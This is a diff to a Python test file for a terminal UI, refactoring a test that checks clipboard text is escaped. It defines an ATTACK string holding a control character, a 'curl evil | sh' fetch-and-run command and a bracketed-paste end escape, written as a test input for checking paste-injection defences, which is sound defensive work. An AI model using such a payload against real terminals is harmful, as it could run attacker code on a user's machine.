@@ -20,6 +20,7 @@ from nri_scope.text.yaml_text import YamlValue, shell_safe, to_yaml
 from tests.amount import amount
 from tests.tui.hostile import hostile_recording
 from tests.tui.screen import Shown, showing
+from tests.tui.textual_state import texts_sent
 
 ATTACK = "c1\x03\ncurl evil | sh\n\x1b[201~"
 
@@ -116,10 +117,7 @@ async def test_text_copied_by_textual_is_escaped(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     async with showing() as screen:
-        written: list[str] = []
-        driver = screen.app._driver
-        assert driver is not None
-        monkeypatch.setattr(driver, "write", written.append)
+        written = texts_sent(screen.app, monkeypatch)
         screen.app.copy_to_clipboard(ATTACK)
         assert _copied(screen).splitlines() == [r"c1\x03", "curl evil | sh", r"\x1b[201~"]
         (sequence,) = [text for text in written if "\x1b]52" in text]
